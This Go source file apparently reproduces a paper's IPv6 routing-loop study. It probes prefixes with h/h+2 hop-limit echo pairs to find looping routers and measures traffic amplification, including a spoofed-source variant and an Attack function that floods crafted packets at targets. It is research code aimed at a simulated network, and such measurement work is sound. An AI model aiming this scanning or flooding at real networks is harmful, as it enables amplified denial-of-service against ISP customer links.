// Package loopscan implements the Section VI routing-loop measurement:
// the h / h+2 hop-limit probe pair that confirms a forwarding loop, the
// window sweeps over ISP blocks and BGP-advertised prefixes, and the
// amplification accounting of the attack itself.
//
// Probes are built and classified by the scanner's icmp6_echoscan module
// (xmap.ICMPEchoProbe), tagged with the scanner's validation PRF
// (xmap.NewValidator). The per-sub-prefix target address stays an
// HMAC-SHA256 derivation (targetIn): the committed goldens pin the
// addresses it picks.
package loopscan

import (
	"crypto/hmac"
	"crypto/sha256"
	"fmt"
	"hash"

	"repro/internal/ipv6"
	"repro/internal/netsim"
	"repro/internal/perm"
	"repro/internal/telemetry"
	"repro/internal/uint128"
	"repro/internal/wire"
	"repro/internal/xmap"
)

// DefaultHopLimit is the probe hop limit h. The paper selects 32: large
// enough to cross the Internet (Yarrp6's fill-mode data shows all paths
// <32), small enough to bound the loop traffic a probe induces.
const DefaultHopLimit = 32

// Verdict classifies one probed address.
type Verdict int

// Verdicts.
const (
	VerdictSilent      Verdict = iota + 1 // no response
	VerdictUnreachable                    // healthy: destination unreachable
	VerdictLoop                           // confirmed: time exceeded twice from one device
	VerdictTransient                      // time exceeded once, unconfirmed
)

// String names the verdict.
func (v Verdict) String() string {
	switch v {
	case VerdictSilent:
		return "silent"
	case VerdictUnreachable:
		return "unreachable"
	case VerdictLoop:
		return "loop"
	case VerdictTransient:
		return "transient"
	}
	return fmt.Sprintf("verdict(%d)", int(v))
}

// CheckResult is the outcome for one target address.
type CheckResult struct {
	Target    ipv6.Addr
	Responder ipv6.Addr
	Verdict   Verdict
}

// Detector probes for loops through a scan driver. Probes go through
// the scanner's one per-packet probe path, xmap.EchoExchange: each hop
// limit (h and h+2) has its own exchange and its own validator
// (xmap.NewValidator, the scanner's PRF, keyed per hop limit so the two
// probes of a pair carry different id/seq values). A Detector is not
// safe for concurrent use.
type Detector struct {
	drv xmap.PacketDriver
	// HopLimit is h (default DefaultHopLimit).
	HopLimit uint8
	// Tel, when set, counts probes, responses and confirmed loops into a
	// telemetry shard (loop.* counters). Nil detaches instrumentation.
	Tel *telemetry.Shard

	// first probes at h, confirm at h+2. One exchange per hop limit
	// keeps each one's cached probe template valid across probes.
	first, confirm *xmap.EchoExchange
}

// NewDetector creates a detector.
func NewDetector(drv xmap.PacketDriver) *Detector {
	return &Detector{drv: drv, HopLimit: DefaultHopLimit}
}

// probe sends one echo request at hopLimit through *x, rebuilt first if
// it was made for another hop limit, and returns the first reply
// validated for dst.
func (d *Detector) probe(x **xmap.EchoExchange, hopLimit uint8, dst ipv6.Addr) (xmap.Response, bool, error) {
	if *x == nil || (*x).Probe.HopLimit != hopLimit {
		*x = xmap.NewEchoExchange(d.drv, hopLimit, xmap.NewValidator(fmt.Appendf(nil, "loopscan-h%d", hopLimit)))
	}
	r, ok, err := (*x).Ping(dst)
	if err == nil {
		d.Tel.Inc(telemetry.LoopProbes)
	}
	return r, ok, err
}

// CheckAddr applies the paper's method to one address: a Time Exceeded
// reply to hop limit h, confirmed by a second Time Exceeded from the
// same device at h+2, proves a loop (a linear path would have delivered
// or erred identically at both hop limits only from the same distance —
// the +2 step keeps loop parity so the same device answers).
func (d *Detector) CheckAddr(dst ipv6.Addr) (CheckResult, error) {
	res := CheckResult{Target: dst, Verdict: VerdictSilent}
	r, ok, err := d.probe(&d.first, d.HopLimit, dst)
	if err != nil || !ok {
		return res, err
	}
	d.Tel.Inc(telemetry.LoopResponses)
	res.Responder = r.Responder
	if r.Kind != xmap.KindTimeExceeded {
		res.Verdict = VerdictUnreachable
		return res, nil
	}
	r2, ok2, err := d.probe(&d.confirm, d.HopLimit+2, dst)
	if err != nil {
		return res, err
	}
	if ok2 {
		d.Tel.Inc(telemetry.LoopResponses)
	}
	if ok2 && r2.Kind == xmap.KindTimeExceeded && r2.Responder == r.Responder {
		res.Verdict = VerdictLoop
		d.Tel.Inc(telemetry.LoopConfirmed)
		return res, nil
	}
	res.Verdict = VerdictTransient
	return res, nil
}

// HopInfo is the aggregated view of one observed last hop.
type HopInfo struct {
	Addr ipv6.Addr
	// Vulnerable is set if any probe through this hop confirmed a loop.
	Vulnerable bool
	// SameCount/DiffCount split targets by /64 equality with the hop
	// (Table XI's same/diff columns).
	SameCount, DiffCount int
}

// ScanResult aggregates a loop sweep.
type ScanResult struct {
	Targets   uint64
	Responses uint64
	Hops      map[ipv6.Addr]*HopInfo
}

// VulnerableHops returns the hops with confirmed loops.
func (r *ScanResult) VulnerableHops() []*HopInfo {
	var out []*HopInfo
	for _, h := range r.Hops {
		if h.Vulnerable {
			out = append(out, h)
		}
	}
	return out
}

// ScanWindows sweeps each window: every sub-prefix probed once at a
// pseudo-random host address, loop-checked per CheckAddr.
func (d *Detector) ScanWindows(windows []ipv6.Window, seed []byte) (*ScanResult, error) {
	res := &ScanResult{Hops: make(map[ipv6.Addr]*HopInfo)}
	// One keyed HMAC and staging/digest scratch for the whole sweep
	// instead of fresh allocations per target.
	mac := hmac.New(sha256.New, seed)
	var sum [sha256.Size]byte
	in := make([]byte, 16)
	for _, w := range windows {
		size, ok := w.Size()
		if !ok {
			return nil, fmt.Errorf("loopscan: window %s too large", w)
		}
		cycle, err := perm.NewCycle(size, append([]byte("loop-"), seed...))
		if err != nil {
			return nil, fmt.Errorf("loopscan: permutation for %s: %w", w, err)
		}
		it := cycle.Iterate()
		for {
			idx, ok := it.Next()
			if !ok {
				break
			}
			sub, err := w.Sub(idx)
			if err != nil {
				return nil, err
			}
			dst := targetInMac(sub, mac, in, sum[:0])
			res.Targets++
			cr, err := d.CheckAddr(dst)
			if err != nil {
				return nil, err
			}
			if cr.Verdict == VerdictSilent {
				continue
			}
			res.Responses++
			hop := res.Hops[cr.Responder]
			if hop == nil {
				hop = &HopInfo{Addr: cr.Responder}
				res.Hops[cr.Responder] = hop
			}
			if cr.Verdict == VerdictLoop {
				hop.Vulnerable = true
			}
			if cr.Responder.Prefix64() == dst.Prefix64() {
				hop.SameCount++
			} else {
				hop.DiffCount++
			}
		}
	}
	return res, nil
}

// targetIn derives the pseudo-random in-prefix host address.
func targetIn(sub ipv6.Prefix, seed []byte) ipv6.Addr {
	return targetInMac(sub, hmac.New(sha256.New, seed), make([]byte, 16), nil)
}

// targetInMac is targetIn against a reusable keyed HMAC. in (len 16)
// stages the address bytes and scratch, which may be nil, receives the
// digest. The address is always written through in: a local array
// written through the hash.Hash interface would be forced to the heap,
// so the hoisted buffers keep the per-target call allocation-free.
func targetInMac(sub ipv6.Prefix, mac hash.Hash, in, scratch []byte) ipv6.Addr {
	mac.Reset()
	b := sub.Addr().Bytes()
	copy(in[:16], b[:])
	mac.Write(in[:16])
	sum := mac.Sum(scratch)
	host := uint128.FromBytes(sum[:16])
	hostBits := uint(128 - sub.Bits())
	if hostBits < 128 {
		host = host.And(uint128.Max.Rsh(128 - hostBits))
	}
	if host.IsZero() {
		host = uint128.One
	}
	return ipv6.AddrFrom128(sub.Addr().Uint128().Or(host))
}

// AmplificationResult quantifies one attack packet's effect.
type AmplificationResult struct {
	// LinkPackets is how many packets the victim access link carried.
	LinkPackets uint64
	// LinkBytes is the byte volume on that link.
	LinkBytes uint64
	// Factor is packets carried per attacker packet sent.
	Factor float64
}

// MeasureAmplification sends a single maximum-hop-limit packet to dst and
// reports the traffic it induced on the victim link — the paper's ">200"
// amplification factor measurement (Section VI-A: each packet traverses
// the ISP-CPE link 255-n times).
func MeasureAmplification(drv xmap.PacketDriver, dst ipv6.Addr, victim *netsim.Link) (AmplificationResult, error) {
	return amplify(drv, victim, 1, func(int) ([]byte, error) {
		return wire.BuildEchoRequest(drv.SourceAddr(), dst, wire.MaxHopLimit, 0xa77a, 1, nil)
	})
}

// MeasureAmplificationSpoofed repeats the measurement with a spoofed
// source address that itself falls in a looping prefix: the terminal
// Time Exceeded error is then routed back into the loop and ping-pongs a
// second time, "doubling the loop times" as Section VI-A notes for ASes
// without source address validation.
func MeasureAmplificationSpoofed(drv xmap.PacketDriver, dst, spoofedSrc ipv6.Addr, victim *netsim.Link) (AmplificationResult, error) {
	return amplify(drv, victim, 1, func(int) ([]byte, error) {
		return wire.BuildEchoRequest(spoofedSrc, dst, wire.MaxHopLimit, 0xa77b, 1, nil)
	})
}

type linkCounters struct{ pkts, bytes uint64 }

func snapshot(l *netsim.Link) linkCounters {
	a := l.StatsFrom(l.Ends()[0])
	b := l.StatsFrom(l.Ends()[1])
	return linkCounters{pkts: a.Packets + b.Packets, bytes: a.Bytes + b.Bytes}
}

// Attack floods count crafted packets at the targets in round-robin,
// returning the total victim-link traffic — the DoS scenario of Figure 4
// driven at volume. Research use against one's own simulated network
// only; the real-world counterpart is precisely what the paper discloses
// as a vulnerability.
func Attack(drv xmap.PacketDriver, targets []ipv6.Addr, count int, victim *netsim.Link) (AmplificationResult, error) {
	if len(targets) == 0 || count <= 0 {
		return AmplificationResult{}, fmt.Errorf("loopscan: nothing to send")
	}
	return amplify(drv, victim, count, func(i int) ([]byte, error) {
		return wire.BuildEchoRequest(drv.SourceAddr(), targets[i%len(targets)], wire.MaxHopLimit, uint16(i), uint16(i>>16), nil)
	})
}

// amplify sends count packets built by probe(i), draining any terminal
// error after each, and reports the victim-link traffic they induced per
// packet sent.
func amplify(drv xmap.PacketDriver, victim *netsim.Link, count int, probe func(i int) ([]byte, error)) (AmplificationResult, error) {
	before := snapshot(victim)
	for i := 0; i < count; i++ {
		pkt, err := probe(i)
		if err != nil {
			return AmplificationResult{}, err
		}
		if err := drv.Send(pkt); err != nil {
			return AmplificationResult{}, err
		}
		drv.Recv()
	}
	after := snapshot(victim)
	res := AmplificationResult{
		LinkPackets: after.pkts - before.pkts,
		LinkBytes:   after.bytes - before.bytes,
	}
	res.Factor = float64(res.LinkPackets) / float64(count)
	return res, nil
}
